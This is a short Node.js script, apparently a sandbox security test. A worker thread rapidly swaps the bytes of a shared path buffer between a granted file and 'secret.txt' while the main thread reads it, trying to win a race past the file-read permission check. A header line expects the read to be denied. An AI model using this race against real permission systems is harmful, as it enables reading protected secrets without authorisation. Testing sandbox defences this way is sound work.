// The bytes of a path are changed by a worker while the call is under way.
// denied: file:read secret.txt
const lab = JSON.parse(process.argv[2]);
const fs = require('node:fs');
const { Worker } = require('node:worker_threads');
const [a, b] = [`${lab.granted}/file.txt`, lab.secret];
const length = Math.max(a.length, b.length);
const pad = (text) => Buffer.from(`${'/'.repeat(length - text.length)}${text}`);
const shared = new SharedArrayBuffer(length);
const path = Buffer.from(shared);
pad(a).copy(path);
const worker = new Worker(`const { workerData: { shared, texts } } = require('node:worker_threads'); const path = Buffer.from(shared); for (let i = 0; ; i++) path.set(texts[i & 1]);`, { eval: true, workerData: { shared, texts: [pad(a), pad(b)] } });
worker.on('error', () => {});
worker.on('online', () => {
  const end = Date.now() + 700;
  while (Date.now() < end) {
    try {
      const text = fs.readFileSync(path, 'utf8');
      if (text !== 'granted text') console.log(text);
    } catch {
      // Refused, or half a name.
    }
  }
  process.exit(0);
});
